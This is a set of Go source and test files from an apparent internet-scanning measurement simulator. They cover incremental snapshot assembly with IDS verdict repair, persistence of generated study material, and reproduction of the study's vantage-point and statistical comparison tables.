					cfg.Workers = workers
					es, err := GenerateEpochs(cfg, epochs)
					if err != nil {
						t.Fatal(err)
					}

					inc := es.Incremental()
					if inc.Prefix() != 0 || inc.Tip() != nil {
						t.Fatal("fresh assembler is not at prefix 0")
					}
					chain := make([]*Study, 0, epochs)
					for p := 1; p <= epochs; p++ {
						snap, err := inc.Advance()
						if err != nil {
							t.Fatal(err)
						}
						if inc.Prefix() != p || inc.Tip() != snap {
							t.Fatalf("after Advance #%d: Prefix=%d, Tip==snap %v", p, inc.Prefix(), inc.Tip() == snap)
						}
						chain = append(chain, snap)
					}
					if _, err := inc.Advance(); err == nil {
						t.Fatal("Advance past the last epoch should error")
					}
					if r := inc.Repairs(); r > 0 {
						t.Logf("workers=%d: %d verdict-flip repair(s)", workers, r)
					}

					for p := 1; p <= epochs; p++ {
						want, err := es.Snapshot(p)
						if err != nil {
							t.Fatal(err)
						}
						if renderAllAnalyses(chain[p-1]) != renderAllAnalyses(want) {
							t.Errorf("workers=%d prefix=%d: incremental analyses differ from from-scratch snapshot", workers, p)
						}
						if chain[p-1].NumRecords() != want.NumRecords() {
							t.Errorf("workers=%d prefix=%d: incremental has %d records, from-scratch %d",
								workers, p, chain[p-1].NumRecords(), want.NumRecords())
						}
					}
				}
			})
		}
	}
}

// TestIncrementalWindowedConfig pins the snapshot configs the chain
// stamps: non-final prefixes carry the truncation window of their
// bound, the final prefix is the full week.
func TestIncrementalWindowedConfig(t *testing.T) {
	es, err := GenerateEpochs(testConfig(42, 2021), 3)
	if err != nil {
		t.Fatal(err)
	}
	inc := es.Incremental()
	for p := 1; p <= 3; p++ {
		snap, err := inc.Advance()
		if err != nil {
			t.Fatal(err)
		}
		if p < 3 && snap.Cfg.WindowSec == 0 {
			t.Errorf("prefix %d snapshot claims the full week", p)
		}
		if p == 3 && snap.Cfg.WindowSec != 0 {
			t.Errorf("final snapshot carries a truncation window (%d)", snap.Cfg.WindowSec)
		}
	}
}
