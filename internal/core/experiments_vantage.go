package core

import (
	"fmt"
	"sort"
	"strings"

	"cloudwatch/internal/cloud"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

// Table1Row summarizes one vantage network (Table 1).
type Table1Row struct {
	Network    string
	Collection string
	Regions    int
	Vantages   int
	UniqueIPs  int
	UniqueASes int
}

// Table1Result is the vantage-point summary of Table 1.
type Table1Result struct {
	Rows []Table1Row
}

// Table1 recomputes Table 1 from collected traffic: unique scanning
// IPs and ASes per vantage network.
func (s *Study) Table1() Table1Result {
	type key struct {
		network, collection string
	}
	type agg struct {
		regions  map[string]struct{}
		vantages int
		ips      map[wire.Addr]struct{}
		ases     map[int]struct{}
	}
	groups := map[key]*agg{}
	order := []key{}
	for vi, t := range s.U.Targets() {
		if strings.HasPrefix(t.Region, "stanford:leak") {
			continue // the §4.3 experiment is reported in Table 3
		}
		k := key{t.Network, t.Collector.String()}
		g, ok := groups[k]
		if !ok {
			g = &agg{regions: map[string]struct{}{}, ips: map[wire.Addr]struct{}{}, ases: map[int]struct{}{}}
			groups[k] = g
			order = append(order, k)
		}
		g.regions[t.Region] = struct{}{}
		g.vantages++
		for _, ri := range s.byVantage[vi] {
			g.ips[s.blk.Src[ri]] = struct{}{}
			g.ases[int(s.blk.ASN[ri])] = struct{}{}
		}
	}
	sort.Slice(order, func(i, j int) bool {
		if order[i].collection != order[j].collection {
			return order[i].collection < order[j].collection
		}
		return order[i].network < order[j].network
	})

	var res Table1Result
	for _, k := range order {
		g := groups[k]
		res.Rows = append(res.Rows, Table1Row{
			Network:    k.network,
			Collection: k.collection,
			Regions:    len(g.regions),
			Vantages:   g.vantages,
			UniqueIPs:  len(g.ips),
			UniqueASes: len(g.ases),
		})
	}
	// Telescope row: aggregate collector state.
	telASes := map[string]struct{}{}
	for k := range s.Tel.ASFrequenciesAll() {
		telASes[k] = struct{}{}
	}
	res.Rows = append(res.Rows, Table1Row{
		Network:    "orion",
		Collection: "telescope",
		Regions:    1,
		Vantages:   s.U.TelescopeSize(),
		UniqueIPs:  len(s.Tel.AllSources()),
		UniqueASes: len(telASes),
	})
	return res
}

// Render formats the result as a text table.
func (r Table1Result) Render() string {
	t := newTable("Table 1: vantage points — unique scanning IPs and ASes (July 1-7)",
		"Network", "Collection", "Regions", "Vantage IPs", "Scan IPs", "Scan ASes")
	for _, row := range r.Rows {
		t.add(row.Network, row.Collection,
			fmt.Sprint(row.Regions), fmt.Sprint(row.Vantages),
			fmt.Sprint(row.UniqueIPs), fmt.Sprint(row.UniqueASes))
	}
	return t.String()
}

// Table6Result is the multi-cloud deployment matrix of Table 6.
type Table6Result struct {
	Cities    []cloud.MultiCloudCity
	Providers []cloud.Provider
}

// Table6 returns the deployment's multi-cloud city matrix.
func (s *Study) Table6() Table6Result {
	return Table6Result{
		Cities:    cloud.MultiCloudCities,
		Providers: []cloud.Provider{cloud.AWS, cloud.Google, cloud.Linode, cloud.Azure},
	}
}

// Render formats the matrix.
func (r Table6Result) Render() string {
	header := []string{"City"}
	for _, p := range r.Providers {
		header = append(header, string(p))
	}
	header = append(header, "in cloud-cloud stats")
	t := newTable("Table 6: honeypots in multiple clouds (same city or state)", header...)
	for _, c := range r.Cities {
		row := []string{c.City}
		for _, p := range r.Providers {
			if _, ok := c.Regions[p]; ok {
				row = append(row, "+")
			} else {
				row = append(row, "")
			}
		}
		if c.APACOnly {
			row = append(row, "no (APAC, fn.7)")
		} else {
			row = append(row, "yes")
		}
		t.add(row...)
	}
	return t.String()
}

// networkKindOf maps a network name to its kind via the deployment.
func (s *Study) networkKindOf(network string) netsim.NetworkKind {
	return cloud.Provider(network).Kind()
}
