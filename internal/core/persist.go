package core

import (
	"fmt"

	"cloudwatch/internal/greynoise"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/telescope"
)

// This file is the persistence boundary of the streaming engine: the
// sealed, generated material of an EpochSet exported as plain data
// (StudyMaterial) and the inverse constructor that rebuilds a working
// EpochSet from persisted material without running the generators.
// Everything else an EpochSet holds — universe, search-engine indexes,
// actor population — is deterministic from the Config alone and cheap
// next to generation, so it is rebuilt rather than stored; only the
// probe material the actors emitted (record columns, collector state,
// emission sequences, per-actor run bounds) crosses the disk boundary.
// internal/store frames StudyMaterial into its checksummed segment
// file.

// SinkMaterial is the sealed material of one (worker, epoch) sink: the
// record columns, per-record emission sequences, and the epoch's
// telescope and GreyNoise aggregation for probes that worker routed
// into that epoch.
type SinkMaterial struct {
	Tel *telescope.Collector
	GN  *greynoise.Delta
	Blk *netsim.RecordBlock
	Seq []int32
}

// EpochMaterial is the sealed material of one epoch across all
// workers, plus each actor's record range inside its worker's sink for
// this epoch.
type EpochMaterial struct {
	Sinks []SinkMaterial // one per worker
	// Lo and Hi bound each actor's records within its worker's sink
	// block for this epoch: records [Lo[i], Hi[i]) of
	// Sinks[ActorWorker[i]].Blk belong to actor i.
	Lo, Hi []int32
}

// StudyMaterial is everything generation produced that cannot be
// re-derived from the configuration without paying for generation
// again. Restoring it into an EpochSet (RestoreEpochSet) yields
// snapshots byte-identical to the set it was exported from.
type StudyMaterial struct {
	// Scenario is the canonical scenario id the material was generated
	// under. Unlike Workers it is semantic: material from one
	// adversarial world must never restore into a study configured for
	// another, so RestoreEpochSet checks it independently of whatever
	// config matching the store layer does (belt and suspenders).
	Scenario string
	// Workers is the sink partition width the material was generated
	// with. It is a storage layout, not a semantic parameter: snapshots
	// are byte-identical for every worker count, so material generated
	// at any width restores correctly regardless of the reading
	// process's GOMAXPROCS.
	Workers int
	// ActorWorker maps each actor (population order) to the worker
	// whose sinks hold its records.
	ActorWorker []int32
	Epochs      []EpochMaterial
}

// Material exports the epoch set's sealed generated material. The
// returned structure shares the set's columns and collectors — both
// sides are immutable after generation, so the share is safe; treat
// the material as read-only.
func (es *EpochSet) Material() *StudyMaterial {
	m := &StudyMaterial{
		Scenario:    scanners.CanonicalScenario(es.cfg.Actors.Scenario),
		Workers:     len(es.sinks),
		ActorWorker: make([]int32, len(es.runs)),
		Epochs:      make([]EpochMaterial, es.eb.NumEpochs()),
	}
	for i := range es.runs {
		m.ActorWorker[i] = -1
		if len(es.runs[i].sinks) == 0 {
			continue
		}
		for w := range es.sinks {
			if &es.runs[i].sinks[0] == &es.sinks[w][0] {
				m.ActorWorker[i] = int32(w)
				break
			}
		}
	}
	for e := range m.Epochs {
		em := &m.Epochs[e]
		em.Sinks = make([]SinkMaterial, len(es.sinks))
		for w, sinks := range es.sinks {
			sink := sinks[e]
			em.Sinks[w] = SinkMaterial{Tel: sink.tel, GN: sink.gn, Blk: &sink.blk, Seq: sink.seq}
		}
		em.Lo = make([]int32, len(es.runs))
		em.Hi = make([]int32, len(es.runs))
		for i := range es.runs {
			em.Lo[i] = es.runs[i].lo[e]
			em.Hi[i] = es.runs[i].hi[e]
		}
	}
	return m
}

// RestoreEpochSet rebuilds a working epoch set from persisted
// material: the deterministic scaffolding (deployment, universe,
// search-engine crawls, actor population) is rebuilt from cfg, the
// generated material is installed without running a single actor, and
// the result serves snapshots byte-identical to the set the material
// was exported from. The material is validated structurally (shape,
// range bounds, column agreement) so a corrupted or mismatched store
// fails here instead of producing a silently wrong study.
func RestoreEpochSet(cfg Config, m *StudyMaterial) (*EpochSet, error) {
	if want, got := scanners.CanonicalScenario(cfg.Actors.Scenario), scanners.CanonicalScenario(m.Scenario); want != got {
		return nil, fmt.Errorf("core: material was generated under scenario %q, study is configured for %q", got, want)
	}
	es, _, err := newEpochSet(cfg, len(m.Epochs))
	if err != nil {
		return nil, err
	}
	nEpochs := es.eb.NumEpochs()
	if nEpochs != len(m.Epochs) {
		return nil, fmt.Errorf("core: material has %d epochs, study partitions into %d", len(m.Epochs), nEpochs)
	}
	if m.Workers < 1 {
		return nil, fmt.Errorf("core: material has %d workers", m.Workers)
	}
	if len(m.ActorWorker) != len(es.actors) {
		return nil, fmt.Errorf("core: material maps %d actors, population has %d (configuration mismatch?)", len(m.ActorWorker), len(es.actors))
	}

	es.sinks = make([][]*epochSink, m.Workers)
	for w := range es.sinks {
		es.sinks[w] = make([]*epochSink, nEpochs)
	}
	for e := range m.Epochs {
		em := &m.Epochs[e]
		if len(em.Sinks) != m.Workers {
			return nil, fmt.Errorf("core: epoch %d has %d sinks, material declares %d workers", e, len(em.Sinks), m.Workers)
		}
		if len(em.Lo) != len(es.actors) || len(em.Hi) != len(es.actors) {
			return nil, fmt.Errorf("core: epoch %d run bounds cover %d/%d actors, want %d", e, len(em.Lo), len(em.Hi), len(es.actors))
		}
		for w, sm := range em.Sinks {
			if sm.Tel == nil || sm.GN == nil || sm.Blk == nil {
				return nil, fmt.Errorf("core: epoch %d worker %d sink is incomplete", e, w)
			}
			if len(sm.Seq) != sm.Blk.Len() {
				return nil, fmt.Errorf("core: epoch %d worker %d has %d seqs for %d records", e, w, len(sm.Seq), sm.Blk.Len())
			}
			es.sinks[w][e] = &epochSink{tel: sm.Tel, gn: sm.GN, blk: *sm.Blk, seq: sm.Seq}
		}
	}

	es.runs = make([]actorRuns, len(es.actors))
	for i := range es.actors {
		w := m.ActorWorker[i]
		if w < 0 || int(w) >= m.Workers {
			return nil, fmt.Errorf("core: actor %d assigned to worker %d of %d", i, w, m.Workers)
		}
		run := actorRuns{sinks: es.sinks[w], lo: make([]int32, nEpochs), hi: make([]int32, nEpochs)}
		for e := range m.Epochs {
			lo, hi := m.Epochs[e].Lo[i], m.Epochs[e].Hi[i]
			if lo < 0 || hi < lo || int(hi) > run.sinks[e].blk.Len() {
				return nil, fmt.Errorf("core: actor %d epoch %d run [%d, %d) outside sink of %d records", i, e, lo, hi, run.sinks[e].blk.Len())
			}
			run.lo[e], run.hi[e] = lo, hi
		}
		es.runs[i] = run
	}
	return es, nil
}
