package core

import (
	"fmt"
	"sync"

	"cloudwatch/internal/greynoise"
	"cloudwatch/internal/ids"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/obs"
	"cloudwatch/internal/telescope"
	"cloudwatch/internal/wire"
)

// This file is the incremental side of snapshot assembly. The
// from-scratch assembler (EpochSet.Snapshot) re-merges every ingested
// epoch — a k-way re-merge of every actor's runs plus a full verdict
// and derived-column rebuild — so materializing every prefix of an
// n-epoch stream costs O(n²) record traffic. Incremental assembly
// *adopts* the previous prefix's snapshot instead: ingesting epoch p+1
// appends the new epoch's per-actor column segments actor-major onto
// the prefix-p RecordBlock, union-merges only the new epoch's
// telescope and GreyNoise shards onto clones of the previous
// collectors, extends the §3.2 verdict anchor scan only over the new
// epoch's records, and scatters only the new records into the derived
// per-vantage lists — O(epoch) per ingest, flat in the prefix length.
//
// Sharing contract: consecutive snapshots in the chain share column
// backing arrays (the new snapshot's columns are appends onto the
// previous snapshot's, in place whenever capacity allows). That is
// safe because the chain is linear — exactly one successor ever
// appends past a snapshot's length, Advance calls are serialized by
// the caller, and readers of an earlier snapshot never index past
// their own lengths. Published snapshots are never mutated.
//
// Correctness: a snapshot's rendered analyses must stay byte-identical
// to a batch Run truncated at the prefix bound. Record order only
// reaches rendered output through the §3.2 verdict anchor — every
// other consumer (views, sets, counters, sorted series) is
// order-independent — so the assembler maintains the *canonical*
// anchor per payload: the minimal (actor, emission-seq) credential-
// free occurrence across the assembled epochs, exactly the first
// occurrence a batch run's actor-major record order produces. A new
// epoch can move an anchor backward (an earlier actor first emits the
// payload only in a later epoch); if the moved anchor changes the
// payload's (transport, port) the verdict is re-judged, and in the
// rare case the verdict actually flips the assembler repairs exactly
// the invalidated state: the flipped payloads' entries in a private
// copy of the mal column, and the sources whose exploited status the
// flips granted or withdrew (repairFlips). The previous snapshot is
// untouched either way — its window's canonical anchors are the
// pre-move ones, so its published verdicts stay correct.

// Incremental assembles the chain of prefix snapshots of one EpochSet
// in O(new epoch) per step. Not safe for concurrent use; the streaming
// engine serializes Advance under its ingest lock. Snapshots it
// returns are immutable and safe to read concurrently with later
// Advance calls.
type Incremental struct {
	es     *EpochSet
	prefix int    // epochs assembled so far
	tip    *Study // prefix-`prefix` snapshot (nil before the first Advance)

	// Full-week totals, for one-time preallocation so chain appends
	// stay in place.
	total     int     // records across all epochs
	credTotal int     // credential lists across all epochs
	vantCount []int32 // per-vantage record counts across all epochs

	// Canonical §3.2 anchor state, indexed by netsim.PayloadID: the
	// minimal (actor, seq) credential-free occurrence over the
	// assembled epochs and the (transport, port) its verdict was judged
	// at. anchorActor < 0 means the payload has no anchor yet.
	anchorActor []int32
	anchorSeq   []int32
	anchorTr    []wire.Transport
	anchorPort  []uint16

	payCount int
	repairs  int
}

// Incremental returns an assembler that materializes this epoch set's
// prefix snapshots one epoch at a time. The totals pass below is one
// scan of the generated columns; everything per-Advance is sized by
// the new epoch alone.
func (es *EpochSet) Incremental() *Incremental {
	inc := &Incremental{
		es:        es,
		payCount:  netsim.PayloadCount(),
		vantCount: make([]int32, len(es.u.Targets())),
	}
	for _, sinks := range es.sinks {
		for _, sink := range sinks {
			inc.total += sink.blk.Len()
			inc.credTotal += len(sink.blk.CredLists)
			for _, vi := range sink.blk.Vantage {
				inc.vantCount[vi]++
			}
		}
	}
	inc.anchorActor = make([]int32, inc.payCount)
	for i := range inc.anchorActor {
		inc.anchorActor[i] = -1
	}
	inc.anchorSeq = make([]int32, inc.payCount)
	inc.anchorTr = make([]wire.Transport, inc.payCount)
	inc.anchorPort = make([]uint16, inc.payCount)
	return inc
}

// Prefix returns the number of epochs assembled so far.
func (inc *Incremental) Prefix() int { return inc.prefix }

// Tip returns the latest snapshot (nil before the first Advance).
func (inc *Incremental) Tip() *Study { return inc.tip }

// Repairs returns how many Advance calls had to repair
// already-assembled verdict state because a moved anchor flipped a
// payload's verdict.
func (inc *Incremental) Repairs() int { return inc.repairs }

// Advance ingests the next epoch and returns its prefix snapshot,
// byte-identical in every rendered analysis to a batch Run truncated
// at the new prefix's bound. It errors once every epoch is assembled.
func (inc *Incremental) Advance() (*Study, error) {
	es := inc.es
	if inc.prefix >= es.eb.NumEpochs() {
		return nil, fmt.Errorf("core: all %d epochs already assembled", es.eb.NumEpochs())
	}
	sp := obs.StartStage(obs.StageIncrementalAssembly)
	defer sp.End()
	e := inc.prefix // 0-based index of the epoch being ingested
	newPrefix := inc.prefix + 1

	cfg := es.cfg
	if newPrefix < es.eb.NumEpochs() {
		cfg.WindowSec = es.eb.Bound(newPrefix)
	}
	s := &Study{
		Cfg:    cfg,
		U:      es.u,
		Censys: es.censys,
		Shodan: es.shodan,
		Actors: es.actors,
		IDS:    ids.DefaultEngine(),
	}

	if prev := inc.tip; prev == nil {
		// Chain start: empty collectors and full-week preallocated
		// columns, so every later append extends in place.
		s.Tel = telescope.New(cfg.TelescopeWatch...)
		s.GN = greynoise.NewService()
		for _, actor := range es.actors {
			if actor.Benign {
				s.GN.VetASN(actor.AS.ASN)
			}
		}
		s.blk.Grow(inc.total)
		s.blk.CredLists = make([][]netsim.Credential, 0, inc.credTotal)
		s.mal = make([]bool, 0, inc.total)
		s.byVantage = make([][]int32, len(inc.vantCount))
		for vi, n := range inc.vantCount {
			if n > 0 {
				s.byVantage[vi] = make([]int32, 0, n)
			}
		}
		s.malByPay = make([]int8, inc.payCount)
		for i := range s.malByPay {
			s.malByPay[i] = -1
		}
	} else {
		// Adopt the previous snapshot: collector clones take only the
		// new epoch's merges; column headers are copied and appended
		// past the previous lengths (in place — the backing arrays were
		// preallocated at chain start, and the re-grow guards below are
		// defensive for adopted columns that arrived exactly sized).
		s.Tel = prev.Tel.Clone()
		s.GN = prev.GN.Clone()
		s.blk = prev.blk
		if remaining := inc.total - s.blk.Len(); remaining > 0 {
			s.blk.Grow(remaining)
		}
		s.mal = prev.mal
		if cap(s.mal) < inc.total {
			s.mal = append(make([]bool, 0, inc.total), s.mal...)
		}
		s.byVantage = append([][]int32(nil), prev.byVantage...)
		s.malByPay = append([]int8(nil), prev.malByPay...)
	}

	// Union-merge only the new epoch's collector shards and lay its
	// credential lists into the arena (per-sink index rebasing, as the
	// from-scratch merge does).
	credBase := make(map[*epochSink]int32, len(es.sinks))
	for _, sinks := range es.sinks {
		sink := sinks[e]
		s.Tel.Merge(sink.tel)
		s.GN.MergeDelta(sink.gn)
		credBase[sink] = int32(len(s.blk.CredLists))
		s.blk.CredLists = append(s.blk.CredLists, sink.blk.CredLists...)
	}

	// Append the new epoch's per-actor column segments actor-major. An
	// actor has exactly one run inside one epoch (its records landed in
	// its worker's epoch sink in emission order), so no k-way merge is
	// needed — the seq merge of the from-scratch path degenerates to a
	// single range append per actor.
	base := s.blk.Len()
	for i := range es.runs {
		run := &es.runs[i]
		if lo, hi := run.lo[e], run.hi[e]; hi > lo {
			s.blk.AppendRange(&run.sinks[e].blk, int(lo), int(hi), credBase[run.sinks[e]])
		}
	}
	n := s.blk.Len()

	// Extend the §3.2 anchor scan over the new epoch only. The scan
	// visits records in ascending (actor, seq) order, so a payload's
	// first credential-free occurrence this epoch is the minimal one;
	// comparing it against the carried anchor keeps the canonical
	// (batch actor-major) anchor exact across epochs.
	var newPays []netsim.PayloadID // first anchored this epoch
	var moved []netsim.PayloadID   // anchor moved to a different (transport, port)
	for i := range es.runs {
		run := &es.runs[i]
		sink := run.sinks[e]
		for r := run.lo[e]; r < run.hi[e]; r++ {
			if sink.blk.Cred[r] >= 0 {
				continue
			}
			pay := sink.blk.Pay[r]
			if pay == 0 {
				continue
			}
			if inc.anchorActor[pay] < 0 {
				inc.anchorActor[pay] = int32(i)
				inc.anchorSeq[pay] = sink.seq[r]
				inc.anchorTr[pay] = sink.blk.Transport[r]
				inc.anchorPort[pay] = sink.blk.Port[r]
				newPays = append(newPays, pay)
				continue
			}
			seq := sink.seq[r]
			if int32(i) < inc.anchorActor[pay] ||
				(int32(i) == inc.anchorActor[pay] && seq < inc.anchorSeq[pay]) {
				inc.anchorActor[pay] = int32(i)
				inc.anchorSeq[pay] = seq
				if tr, port := sink.blk.Transport[r], sink.blk.Port[r]; tr != inc.anchorTr[pay] || port != inc.anchorPort[pay] {
					inc.anchorTr[pay] = tr
					inc.anchorPort[pay] = port
					moved = append(moved, pay)
				}
			}
		}
	}

	// Judge payloads first seen this epoch, in parallel (the verdict is
	// a pure function of payload bytes and anchor transport/port).
	parallelEach(len(newPays), func(k int) {
		pay := newPays[k]
		v := int8(0)
		if s.IDS.Malicious(inc.anchorTr[pay].String(), inc.anchorPort[pay], netsim.PayloadBytes(pay)) {
			v = 1
		}
		s.malByPay[pay] = v
	})

	// Re-judge payloads whose canonical anchor moved onto a different
	// (transport, port). A flipped verdict invalidates the flipped
	// payloads' entries in the already-assembled mal column and the
	// exploited status their sources gained or lost — repair exactly
	// that state instead of re-assembling the prefix.
	var flipped []netsim.PayloadID
	for _, pay := range moved {
		v := int8(0)
		if s.IDS.Malicious(inc.anchorTr[pay].String(), inc.anchorPort[pay], netsim.PayloadBytes(pay)) {
			v = 1
		}
		if v != s.malByPay[pay] {
			s.malByPay[pay] = v
			flipped = append(flipped, pay)
		}
	}
	if len(flipped) > 0 {
		inc.repairs++
		mVerdictRepairs.Inc()
		rsp := obs.StartStage(obs.StageVerdictRepair)
		inc.repairFlips(s, flipped, base)
		rsp.End()
	}

	// Fill the verdict column and exploit set for the appended records,
	// in parallel chunks with per-chunk GreyNoise deltas (exactly
	// buildVerdicts' fill, restricted to the new epoch).
	s.mal = append(s.mal, make([]bool, n-base)...)
	added := n - base
	chunks := (added + verdictChunk - 1) / verdictChunk
	var gnMu sync.Mutex
	parallelEach(chunks, func(c int) {
		lo, hi := base+c*verdictChunk, base+(c+1)*verdictChunk
		if hi > n {
			hi = n
		}
		d := greynoise.NewDelta()
		for i := lo; i < hi; i++ {
			m := s.blk.Cred[i] >= 0
			if !m {
				if pay := s.blk.Pay[i]; pay != 0 {
					m = s.malByPay[pay] == 1
				}
			}
			if m {
				s.mal[i] = true
				d.ObserveExploit(s.blk.Src[i])
			}
		}
		gnMu.Lock()
		s.GN.MergeDelta(d)
		gnMu.Unlock()
	})

	// Derived columns: scatter only the new records into the
	// per-vantage lists and refresh the per-payload fact snapshot.
	for ri := base; ri < n; ri++ {
		vi := s.blk.Vantage[ri]
		s.byVantage[vi] = append(s.byVantage[vi], int32(ri))
	}
	s.payKey, s.payProto = payFactsSnapshot(inc.payCount)

	inc.tip, inc.prefix = s, newPrefix
	return s, nil
}

// repairFlips rewrites the already-assembled verdict state of the
// payloads whose verdict flipped, over records [0, base) — the new
// epoch's records are filled after the repair with the updated
// malByPay, so they never need it. Generation marks every record's
// source seen, which makes the exploit set exactly {src of malicious
// records}: a source whose record turned malicious is observed
// exploiting, and a source that lost its last malicious record loses
// exploited status (a record of the new epoch can hand it straight
// back through the fill).
func (inc *Incremental) repairFlips(s *Study, flipped []netsim.PayloadID, base int) {
	// The shared mal prefix stays correct for the published previous
	// snapshot, so the repair works on a private full-capacity copy —
	// later chain appends extend the copy in place.
	s.mal = append(make([]bool, 0, inc.total), s.mal...)

	// Dense payload-indexed lookup: the repair scan tests every
	// credential-free record of the prefix, so a map probe per record
	// would dominate the repair.
	isFlipped := make([]bool, inc.payCount)
	for _, pay := range flipped {
		isFlipped[pay] = true
	}
	lost := map[wire.Addr]bool{}
	for i := 0; i < base; i++ {
		if s.blk.Cred[i] >= 0 {
			continue
		}
		pay := s.blk.Pay[i]
		if pay == 0 || !isFlipped[pay] {
			continue
		}
		if m := s.malByPay[pay] == 1; m != s.mal[i] {
			s.mal[i] = m
			if m {
				s.GN.ObserveExploit(s.blk.Src[i])
			} else {
				lost[s.blk.Src[i]] = true
			}
		}
	}
	// A source that lost a malicious record keeps its exploited status
	// if any other already-assembled malicious record names it.
	if len(lost) == 0 {
		return
	}
	for i := 0; i < base && len(lost) > 0; i++ {
		if s.mal[i] && lost[s.blk.Src[i]] {
			delete(lost, s.blk.Src[i])
		}
	}
	for src := range lost {
		s.GN.RemoveExploit(src)
	}
}
