package core

import (
	"errors"
	"reflect"
	"strings"
	"sync"
	"testing"

	"cloudwatch/internal/stats"
)

// naiveFamily replays a family job through the pre-batching per-pair
// code path — stats.CompareTopK on the original frequency tables, or
// CompareBinary for CharFracMalicious — one pair at a time, exactly
// as the drivers looped before the family runner existed. The runner
// must reproduce it result for result.
func naiveFamily(job famJob, char Characteristic, k int) *Family {
	fam := &Family{}
	for idx, p := range job.pairs {
		a, b := job.sides[p[0]], job.sides[p[1]]
		label := job.labels[idx]
		if char == CharFracMalicious {
			if a.tot == 0 || b.tot == 0 {
				fam.Add(label, stats.ChiSquareResult{}, false)
				continue
			}
			r, err := stats.CompareBinary(a.mal, a.ben, b.mal, b.ben)
			if err != nil {
				if errors.Is(err, stats.ErrZeroMargin) {
					fam.Add(label, stats.ChiSquareResult{P: 1, N: int(a.tot + b.tot)}, true)
					continue
				}
				fam.Add(label, r, false)
				continue
			}
			fam.Add(label, r, true)
			continue
		}
		fa, fb := a.sum.Table, b.sum.Table
		if fa.Total() == 0 || fb.Total() == 0 {
			fam.Add(label, stats.ChiSquareResult{}, false)
			continue
		}
		r, err := stats.CompareTopK(k, fa, fb)
		fam.Add(label, r, err == nil)
	}
	return fam
}

// famCase is one driver-shaped family job to check.
type famCase struct {
	desc string
	char Characteristic
	k    int
	job  famJob
}

// familyCases enumerates the exact family jobs the experiment drivers
// hand the runner: every Table 2 neighborhood family, the ablation's
// extra K values, and the Table 4/5/7/10 and median-ablation
// families, built through the same helpers the drivers use.
func familyCases(s *Study) []famCase {
	var cases []famCase
	add := func(desc string, char Characteristic, k int, job famJob) {
		cases = append(cases, famCase{desc, char, k, job})
	}

	// Table 2 / AblationTopK: neighborhood families.
	for _, group := range neighborhoodSlices {
		nbs := s.greyNoiseNeighborhoods(group.slice)
		pairs, labels, _ := neighborhoodPairs(nbs)
		for _, char := range group.chars {
			add("neighborhood/"+group.slice.String()+"/"+char.String(), char, TopK,
				famJob{sides: s.neighborhoodSides(nbs, char), pairs: pairs, labels: labels})
		}
	}
	sshNbs := s.greyNoiseNeighborhoods(SliceSSH22)
	sshPairs, sshLabels, _ := neighborhoodPairs(sshNbs)
	for _, k := range []int{1, 5, 10} {
		add("ablation-topk/SSH22", CharTopAS, k,
			famJob{sides: s.neighborhoodSides(sshNbs, CharTopAS), pairs: sshPairs, labels: sshLabels})
	}

	// Table 4: per-provider region pairs on GreyNoise group views.
	for _, provider := range []string{"aws", "google", "linode"} {
		var regions []string
		for _, region := range s.U.Regions() {
			if strings.HasPrefix(region, provider+":") {
				regions = append(regions, region)
			}
		}
		var regionPairs [][2]string
		for i := 0; i < len(regions); i++ {
			for j := i + 1; j < len(regions); j++ {
				regionPairs = append(regionPairs, [2]string{regions[i], regions[j]})
			}
		}
		for _, axis := range table4Axes {
			for _, char := range axis.chars {
				add("table4/"+provider+"/"+axis.slice.String()+"/"+char.String(), char, TopK,
					regionPairJob(s, regionPairs, char, func(region string) *View {
						return s.regionGroupView(region, axis.slice)
					}))
			}
		}
	}

	// Tables 4+5's shared family: every same-provider region pair.
	pairsGeo := s.geoRegionPairs()
	regionPairsGeo := make([][2]string, len(pairsGeo))
	for i, p := range pairsGeo {
		regionPairsGeo[i] = [2]string{p.a, p.b}
	}
	for _, axis := range table5Axes {
		for _, char := range axis.chars {
			add("georegions-naive/"+axis.slice.String()+"/"+char.String(), char, TopK,
				regionPairJob(s, regionPairsGeo, char, func(region string) *View {
					return s.regionGroupView(region, axis.slice)
				}))
		}
	}

	// Table 7: network-type pairs on any-collector group views.
	for _, axis := range table7Axes {
		for _, kind := range table7Kinds() {
			for _, char := range axis.chars {
				if kind.honeytrap && credBased(char, axis.slice) {
					continue
				}
				add("table7/"+kind.name+"/"+axis.slice.String()+"/"+char.String(), char, TopK,
					regionPairJob(s, kind.pairs, char, func(region string) *View {
						return s.anyRegionGroupView(region, axis.slice)
					}))
			}
		}
	}

	// Table 10: telescope vs service networks.
	for _, sl := range table10Slices {
		for _, kind := range table10Kinds() {
			add("table10/"+kind.name+"/"+sl.slice.String(), CharTopAS, TopK,
				s.table10Job(kind, sl.slice, sl.port))
		}
	}

	// Median-filter ablation: median and sum aggregation.
	medianPairs := table7Kinds()[0].pairs // the cloud-cloud pair set
	add("ablmedian/median", CharTopAS, TopK,
		regionPairJob(s, medianPairs, CharTopAS, func(region string) *View {
			return s.regionGroupView(region, SliceSSH22)
		}))
	add("ablmedian/sum", CharTopAS, TopK,
		regionPairJob(s, medianPairs, CharTopAS, func(region string) *View {
			return s.sumRegionView(region, SliceSSH22)
		}))

	return cases
}

// TestBatchedFamiliesMatchNaive is the engine's core guarantee at the
// driver level: on all three dataset years, every family the batched
// runner produces deep-equals the old per-pair CompareTopK loop on
// the same sides and pair order.
func TestBatchedFamiliesMatchNaive(t *testing.T) {
	for _, year := range []int{2020, 2021, 2022} {
		s := sharedStudy(t, year)
		cases := familyCases(s)
		if len(cases) == 0 {
			t.Fatalf("year %d: no family cases", year)
		}
		for _, c := range cases {
			if len(c.job.pairs) == 0 {
				t.Errorf("year %d %s: family has no pairs", year, c.desc)
				continue
			}
			got := runFamily(c.job, c.char, c.k).fam
			want := naiveFamily(c.job, c.char, c.k)
			if len(got.Pairs) != len(want.Pairs) {
				t.Fatalf("year %d %s: %d pairs, want %d", year, c.desc, len(got.Pairs), len(want.Pairs))
			}
			for i := range want.Pairs {
				if !reflect.DeepEqual(got.Pairs[i], want.Pairs[i]) {
					t.Fatalf("year %d %s pair %d (%s):\n got %+v\nwant %+v",
						year, c.desc, i, want.Pairs[i].Label, got.Pairs[i], want.Pairs[i])
				}
			}
		}
	}
}

// TestAblationWidthsMatchUnionTopK checks the runner's per-pair
// contingency stats against direct UnionTopK recomputation for the
// footnote-2 ablation metrics.
func TestAblationWidthsMatchUnionTopK(t *testing.T) {
	s := sharedStudy(t, 2021)
